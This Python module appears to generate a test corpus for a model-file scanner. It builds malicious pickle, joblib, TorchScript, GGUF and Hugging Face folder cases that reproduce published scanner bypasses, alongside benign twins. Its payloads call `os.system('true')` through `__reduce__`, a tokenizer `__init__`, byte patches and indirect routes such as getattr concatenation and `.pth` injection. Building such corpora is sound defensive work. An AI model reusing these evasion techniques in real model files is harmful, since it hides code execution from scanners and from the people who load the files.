"""Corpus groups for issue 14: the evasion classes and the published bypasses of the peers.

Each case carries a class label (`Case.evasion`): `evasion:<class>` for the loader-parity
evasions (format sniffing, zip readers, legacy tar, joblib, TorchScript `__setstate__`, chat
templates, Hugging Face folders, remote code written indirectly) and `bypass:<id>` for one
published bypass. The bytes come from the tests that prove each path with the real loader:
`tests/pickle/test_published_bypasses.py` (BYPASSES), `tests/formats/test_container_parity.py`
(ZIP_CASES), `tests/pickle/test_sniff.py` (PREFIXES), `tests/formats/test_joblib_evasions.py`
and the fixtures. Test modules are loaded by path; nothing here loads what it writes.
"""

from __future__ import annotations

import importlib.util
import json
import pickle
import shutil
import struct
import sys
import tempfile
from pathlib import Path
from types import ModuleType

from scan.corpus import BENIGN, PAYLOAD, REPO, Case, Writer


def _test_module(relative: str) -> ModuleType:
    path = REPO / relative
    name = f"bench_{path.stem}"
    if name in sys.modules:
        return sys.modules[name]
    spec = importlib.util.spec_from_file_location(name, path)
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    sys.modules[name] = module
    spec.loader.exec_module(module)
    return module


def _add(w: Writer, rel: str, kind: str, fmt: str, technique: str, label: str) -> Path:
    w.cases.append(Case(rel, kind, fmt, technique, label))
    target = w.root / rel
    target.parent.mkdir(parents=True, exist_ok=True)
    return target


def _folder(w: Writer, rel: str, kind: str, fmt: str, technique: str, label: str) -> Path:
    w.cases.append(Case(rel, kind, fmt, technique, label))
    target = w.root / rel
    target.mkdir(parents=True, exist_ok=True)
    return target


# --- published bypasses ----------------------------------------------------------------------


def bypasses(w: Writer) -> None:
    """One case per published bypass (a folder each: several keep a meaningful file name)."""
    catalogue = _test_module("tests/pickle/test_published_bypasses.py")
    for name, case in catalogue.BYPASSES.items():
        fmt = "7z" if case.name.endswith(".7z") else "pickle"
        target = _add(
            w, f"mal/bypass/{name}/{case.name}", PAYLOAD, fmt, case.doc[:90], f"bypass:{name}"
        )
        target.write_bytes(case.build())
    parity = _test_module("tests/formats/test_container_parity.py")
    from fixtures.containers import marker_pickle, payload_pickle

    for advisory, (zip_case, _link) in catalogue.CONTAINER_BYPASSES.items():
        slug = zip_case
        target = _add(
            w,
            f"mal/bypass/container-{slug}/model.pt",
            PAYLOAD,
            "pytorch",
            advisory,
            f"bypass:{advisory.split(' (')[0]} ({zip_case})",
        )
        target.write_bytes(parity.ZIP_CASES[zip_case](marker_pickle("decoy"), payload_pickle()))


# --- evasion classes of issue 14 ------------------------------------------------------------


def sniffing(w: Writer) -> None:
    sniff = _test_module("tests/pickle/test_sniff.py")
    for name, prefix in sniff.PREFIXES.items():
        _add(
            w,
            f"mal/evasion/sniff/{name}.bin",
            PAYLOAD,
            "pickle",
            f"first opcode {name}",
            "evasion:sniffing",
        ).write_bytes(sniff.call(prefix, "os", "system", "true"))


def zip_readers(w: Writer) -> None:
    parity = _test_module("tests/formats/test_container_parity.py")
    from fixtures.containers import marker_pickle, payload_pickle

    for name, build in parity.ZIP_CASES.items():
        _add(
            w, f"mal/evasion/zip/{name}.pt", PAYLOAD, "pytorch", name, "evasion:zip readers"
        ).write_bytes(build(marker_pickle("decoy"), payload_pickle()))
    # No benign twins here: a zip whose readers disagree is hostile whatever it holds.


def legacy_tar(w: Writer) -> None:
    from fixtures.containers import legacy_tar_checkpoint

    system = pickle.dumps(_System(), protocol=2)
    for where in ("storage_views", "second_storage_args", "second_tensor_args"):
        legacy_tar_checkpoint(
            _add(
                w,
                f"mal/evasion/tar/{where}.tar",
                PAYLOAD,
                "pytorch-tar",
                f"pickle after raw bytes ({where})",
                "evasion:legacy tar",
            ),
            **{where: system},
        )
    legacy_tar_checkpoint(
        _add(
            w,
            "ok/evasion/tar/plain.tar",
            BENIGN,
            "pytorch-tar",
            "legacy torch.save tar",
            "evasion:legacy tar",
        )
    )


class _System:
    def __reduce__(self) -> tuple[object, tuple[str]]:
        import os

        return (os.system, ("true",))


def joblib_files(w: Writer) -> None:
    jl = _test_module("tests/formats/test_joblib_evasions.py")
    from fixtures.pickles import Reduces

    label = "evasion:joblib"
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        evil = jl._respelled_dump(work, Reduces(print, ("x",)), "respelled")
        _add(
            w,
            "mal/evasion/joblib/respelled.joblib",
            PAYLOAD,
            "joblib",
            "wrapper spelled getattr(joblib.numpy_pickle, ...)",
            label,
        ).write_bytes(evil.read_bytes().replace(b"c__builtin__\nprint\n", b"cposix\nsystem\n"))
        _add(
            w,
            "mal/evasion/joblib/frame-past-wrapper.joblib",
            PAYLOAD,
            "joblib",
            "FRAME running past the wrapper",
            label,
        ).write_bytes(jl._framed_past_wrapper(jl._payload()))
        _add(
            w,
            "mal/evasion/joblib/object-dtype-O8.joblib",
            PAYLOAD,
            "joblib",
            "object dtype spelled |O8",
            label,
        ).write_bytes(
            _print_to_system(jl._object_array_dump(work, Reduces(print, ("x",)), "o8").read_bytes())
        )
        _add(
            w,
            "mal/evasion/joblib/late-wrapper.joblib",
            PAYLOAD,
            "joblib",
            "first wrapper after 1 MiB",
            label,
        ).write_bytes(
            _print_to_system(
                jl._late_wrapper_dump(work, Reduces(print, ("x",)), "late").read_bytes()
            )
        )
        _add(
            w,
            "mal/evasion/joblib/array-bytes-linear.joblib",
            PAYLOAD,
            "joblib",
            "payload in array bytes a linear loader runs",
            label,
        ).write_bytes(
            jl._hand_dump(jl._marker(), b"cos\nsystem\n(S'true'\ntR0", framed=False, aligned=False)
        )
        _add(
            w,
            "mal/evasion/joblib/ndarraywrapper-outside.pkl",
            PAYLOAD,
            "joblib",
            "NDArrayWrapper naming ../ file",
            label,
        ).write_bytes(jl._nd_wrapper("../../elsewhere/model.npy"))
        _add(
            w,
            "ok/evasion/joblib/late-wrapper.joblib",
            BENIGN,
            "joblib",
            "joblib dump, first array after 1 MiB",
            label,
        ).write_bytes(jl._late_wrapper_dump(work, jl.MARKER, "late-ok").read_bytes())


def _print_to_system(data: bytes) -> bytes:
    """Replace a nested protocol 4 `builtins.print` by `posix.system`, fixing its FRAME."""
    call = b"\x8c\x08builtins\x94\x8c\x05print"
    system = b"\x8c\x05posix\x94\x8c\x06system"
    at = data.index(call)
    frame = data.rindex(b"\x95", 0, at)
    (length,) = struct.unpack("<Q", data[frame + 1 : frame + 9])
    data = (
        data[: frame + 1] + struct.pack("<Q", length + len(system) - len(call)) + data[frame + 9 :]
    )
    return data.replace(call, system, 1)


def torchscript_setstate(w: Writer) -> None:
    from fixtures import torchscript_models as ts

    label = "evasion:torchscript setstate"
    with tempfile.TemporaryDirectory() as tmp:
        base = ts.save_scripted(ts.MarkerOnLoad("/tmp/mw-marker.pt"), Path(tmp) / "base.pt")
        shutil.copy(
            base,
            _add(
                w,
                "mal/evasion/torchscript/setstate-torch-save.pt",
                PAYLOAD,
                "torchscript",
                "__setstate__ writes a file (torch.save)",
                label,
            ),
        )
        ts.save_scripted(
            ts.ReadsOnLoad("/etc/hostname"),
            _add(
                w,
                "mal/evasion/torchscript/setstate-from-file.pt",
                PAYLOAD,
                "torchscript",
                "__setstate__ reads a file (torch.from_file)",
                label,
            ),
        )
        ts.rewrite_member(
            base,
            _add(
                w,
                "mal/evasion/torchscript/setstate-open.pt",
                PAYLOAD,
                "torchscript",
                "__setstate__ opens a file (hand-written code)",
                label,
            ),
            ts.is_main_code,
            ts.replace_in_code("torch.save(torch.zeros([1]), path)", '_9 = open(path, "w")'),
        )
        ts.rewrite_member(
            base,
            _add(
                w,
                "mal/evasion/torchscript/setstate-system.pt",
                PAYLOAD,
                "torchscript",
                "__setstate__ calls os.system",
                label,
            ),
            ts.is_main_code,
            ts.replace_in_code("torch.save(torch.zeros([1]), path)", '_9 = os.system("true")'),
        )
        ts.custom_class_namespace(
            _add(
                w,
                "mal/evasion/torchscript/custom-class-namespace.pt",
                PAYLOAD,
                "torchscript",
                "torch.classes.<outside namespace>",
                label,
            )
        )
        ts.save_scripted(
            ts.CopiesState(),
            _add(
                w,
                "ok/evasion/torchscript/copies-state.pt",
                BENIGN,
                "torchscript",
                "__setstate__ that only copies state",
                label,
            ),
        )


def chat_templates(w: Writer) -> None:
    from fixtures import chat_templates as ct
    from fixtures import gguf_files

    for name, template in ct.COMPUTED_NAMES.items():
        gguf_files.write_gguf(
            _add(
                w,
                f"mal/evasion/template/{name}.gguf",
                PAYLOAD,
                "gguf",
                f"name built at render time: {name}",
                "evasion:chat template names",
            ),
            chat_template=template,
        )


HOSTILE_TEMPLATE_NOTE = "tokenizer-only folder"


def hf_without_config(w: Writer) -> None:
    from fixtures import hf_folders as fx

    label = "evasion:hf folder without config.json"
    fx.save_tokenizer(
        _folder(
            w,
            "mal/evasion/hf/tokenizer-only-template",
            PAYLOAD,
            "hf-folder",
            "tokenizer-only folder, SSTI chat template",
            label,
        ),
        fx.HOSTILE_TEMPLATE,
    )
    folder = _folder(
        w,
        "mal/evasion/hf/tokenizer-auto-map",
        PAYLOAD,
        "hf-folder",
        "tokenizer_config auto_map + tokenization .py (os.system)",
        label,
    )
    fx.save_tokenizer(folder)
    config = json.loads((folder / "tokenizer_config.json").read_text())
    config["auto_map"] = {"AutoTokenizer": [None, "tokenization_evil.EvilTokenizer"]}
    (folder / "tokenizer_config.json").write_text(json.dumps(config))
    (folder / "tokenization_evil.py").write_text(
        "import os\n\nfrom transformers import PreTrainedTokenizerFast\n\n\n"
        "class EvilTokenizer(PreTrainedTokenizerFast):\n"
        "    def __init__(self, *args, **kwargs):\n"
        "        os.system('true')\n"
        "        super().__init__(*args, **kwargs)\n"
    )
    folder = _folder(
        w,
        "mal/evasion/hf/processor-template",
        PAYLOAD,
        "hf-folder",
        "processor_config.json chat template (SSTI)",
        label,
    )
    (folder / "processor_config.json").write_text(
        json.dumps({"processor_class": "AutoProcessor", "chat_template": fx.HOSTILE_TEMPLATE})
    )
    folder = _folder(
        w,
        "mal/evasion/hf/additional-templates",
        PAYLOAD,
        "hf-folder",
        "additional_chat_templates/*.jinja (SSTI)",
        label,
    )
    fx.save_tokenizer(folder)
    (folder / "additional_chat_templates").mkdir()
    (folder / "additional_chat_templates" / "tool_use.jinja").write_text(fx.HOSTILE_TEMPLATE)
    fx.save_tokenizer(
        _folder(
            w,
            "ok/evasion/hf/tokenizer-only",
            BENIGN,
            "hf-folder",
            "tokenizer-only folder, ChatML template",
            label,
        )
    )


#: Remote-code payloads written indirectly (phone_home's body in the custom model module).
INDIRECT_CODE = {
    "getattr-concat": "return getattr(os, 'sys' + 'tem')('true')",
    "sys-modules": "import sys\n        return sys.modules['os'].system('true')",
    "torch-hub-load": "import torch\n        return torch.hub.load('example/repo', 'model')",
    "timeit": "import timeit\n        return timeit.timeit(\"print('hi')\", number=1)",
    "pydoc-pager": "import pydoc\n        return pydoc.pipepager('', 'true')",
    "pth-file": (
        "import site\n        path = site.getsitepackages()[0] + '/mw.pth'\n"
        "        open(path, 'w').write('import os')"
    ),
    "dict-config": (
        "import logging.config\n        logging.config.dictConfig({'version': 1, 'handlers':"
        " {'h': {'class': 'logging.FileHandler', 'filename': '/tmp/mw.log'}}})"
    ),
    "load-inline": (
        "from torch.utils.cpp_extension import load_inline\n"
        "        return load_inline('mw', cpp_sources='int x;')"
    ),
}


def remote_code(w: Writer) -> None:
    from fixtures import hf_folders as fx

    label = "evasion:remote code written indirectly"
    with tempfile.TemporaryDirectory() as tmp:
        base = Path(tmp) / "base"
        fx.save_custom_code_model(base, Path(tmp))
        [module] = sorted(base.glob("modeling_*.py"))
        for name, body in INDIRECT_CODE.items():
            folder = _folder(
                w,
                f"mal/evasion/remote-code/{name}",
                PAYLOAD,
                "hf-folder",
                f"auto_map module: {name}",
                label,
            )
            shutil.copytree(base, folder, dirs_exist_ok=True)
            source = (folder / module.name).read_text()
            assert "        return None" in source
            (folder / module.name).write_text(
                source.replace("        return None", f"        {body}")
            )


EVASION_GROUPS = {
    "bypasses": bypasses,
    "evasion sniffing": sniffing,
    "evasion zip": zip_readers,
    "evasion legacy tar": legacy_tar,
    "evasion joblib": joblib_files,
    "evasion torchscript": torchscript_setstate,
    "evasion chat templates": chat_templates,
    "evasion hf folders": hf_without_config,
    "evasion remote code": remote_code,
}
